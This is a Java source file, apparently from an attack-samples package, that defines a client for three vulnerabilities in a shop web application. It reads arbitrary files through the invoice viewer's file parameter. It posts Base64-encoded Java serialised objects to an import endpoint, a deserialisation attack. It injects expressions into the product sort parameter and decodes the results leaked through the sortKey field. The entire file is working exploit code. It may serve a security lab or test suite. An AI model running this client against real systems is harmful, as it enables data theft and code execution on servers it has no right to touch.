package whorl.samples.attack;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;

/** The shop's three holes, over HTTP. */
final class ShopClient {
  private static final Pattern SORT_KEY = Pattern.compile("\"sortKey\":\"([A-Za-z0-9_=-]+)\"");
  private static final Duration CONNECT_TIMEOUT = Duration.ofSeconds(5);
  private static final Duration ANSWER_TIMEOUT = Duration.ofSeconds(90);

  private final HttpClient http =
      HttpClient.newBuilder()
          .version(HttpClient.Version.HTTP_1_1)
          .connectTimeout(CONNECT_TIMEOUT)
          .build();
  private final URI target;

  ShopClient(URI target) {
    this.target = target;
  }

  /** A file by its path from the invoices' folder; null when the shop finds none. */
  byte @Nullable [] view(String file) throws IOException, InterruptedException {
    HttpResponse<byte[]> answer =
        http.send(
            request("/invoices/view?file=" + encoded(file)).GET().build(),
            BodyHandlers.ofByteArray());
    if (answer.statusCode() == 404) {
      return null;
    }
    if (answer.statusCode() != 200) {
      throw new IOException("the file view answered " + answer.statusCode());
    }
    return answer.body();
  }

  /** Sends a serialised object to the importer. */
  String importObject(byte[] serialised) throws IOException, InterruptedException {
    HttpResponse<Void> answer =
        http.send(
            request("/import")
                .header("Content-Type", "text/plain")
                .POST(BodyPublishers.ofString(Base64.getEncoder().encodeToString(serialised)))
                .build(),
            BodyHandlers.discarding());
    return "sent the importer "
        + serialised.length
        + " bytes of Java serialisation: HTTP "
        + answer.statusCode();
  }

  /** The value of an expression, evaluated for one product; it must be Base64 text. */
  String evaluate(String expression) throws IOException, InterruptedException {
    HttpResponse<String> answer =
        http.send(
            request("/products?sort=" + encoded("id != 'p1' ? null : " + expression)).GET().build(),
            BodyHandlers.ofString());
    Matcher key = SORT_KEY.matcher(answer.body());
    if (answer.statusCode() != 200 || !key.find()) {
      throw new IOException("the product list answered " + answer.statusCode());
    }
    return new String(Base64.getUrlDecoder().decode(key.group(1)), StandardCharsets.UTF_8);
  }

  private HttpRequest.Builder request(String pathAndQuery) {
    return HttpRequest.newBuilder(target.resolve(pathAndQuery)).timeout(ANSWER_TIMEOUT);
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }
}
